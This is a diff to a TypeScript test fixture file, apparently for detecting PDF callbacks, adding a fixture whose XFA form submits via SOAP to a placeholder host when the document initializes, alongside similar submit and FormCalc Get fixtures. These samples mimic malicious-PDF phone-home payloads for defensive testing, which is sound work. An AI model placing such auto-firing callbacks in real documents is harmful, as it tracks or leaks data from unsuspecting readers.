@@ -161,6 +161,11 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
       xfaForm(
         `<event activity="initialize"><submit format="xdp" target="https://collect.example/xfa" textEncoding="UTF-8"/></event>`,
       ),
+    // the address in an HTML form's attribute, sent as SOAP (malicious-pdf test48)
+    "soap-submit-action": () =>
+      xfaForm(
+        `<event activity="initialize"><submit method="soap" action="https://collect.example/soap" soapAction="urn:ping"/></event>`,
+      ),
     "formcalc-get": () =>
       xfaForm(
         `<event activity="docReady"><script contentType="application/x-formcalc">name.rawValue = Get("https://track.example/get")</script></event>`,
